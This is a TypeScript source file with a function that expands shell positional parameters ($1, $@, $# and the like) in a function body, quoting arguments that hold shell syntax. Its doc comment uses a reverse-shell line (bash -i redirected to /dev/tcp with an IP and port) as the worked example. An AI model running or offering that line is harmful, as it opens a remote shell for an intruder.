import { shellQuote } from '../toolcall.js';

/** An argument that reads the same unquoted and inside double quotes. */
const PLAIN = /^[\w.\/:@%+=,~-]*$/;

/**
 * A function body with its positional parameters replaced by the arguments of one call:
 * `bash -i >& /dev/tcp/$1/$2 0>&1` called with `198.51.100.7 4444`. `"$@"` becomes each argument
 * quoted, `$*` and `$@` the arguments joined, `$#` their count, `$1`…`$9` and `${1}`…`${9}` the
 * argument (quoted when it holds shell syntax). A linear scan of the body.
 */
export function withPositional(body: string, args: readonly string[]): string {
  let out = '';
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (c === '"' && body.startsWith('"$@"', i)) {
      out += args.map(shellQuote).join(' ');
      i += 3;
      continue;
    }
    if (c !== '$') {
      out += c;
      continue;
    }
    const next = body[i + 1] ?? '';
    const braced = next === '{' && /^\{[1-9@*#]\}/.test(body.slice(i + 1, i + 4)) ? body[i + 2]! : undefined;
    const p = braced ?? next;
    if (!/^[1-9@*#]$/.test(p)) {
      out += c;
      continue;
    }
    i += braced ? 3 : 1;
    if (p === '#') out += String(args.length);
    else if (p === '@' || p === '*') out += args.every((a) => PLAIN.test(a)) ? args.join(' ') : shellQuote(args.join(' '));
    else {
      const a = args[Number(p) - 1] ?? '';
      out += PLAIN.test(a) ? a : shellQuote(a);
    }
  }
  return out;
}
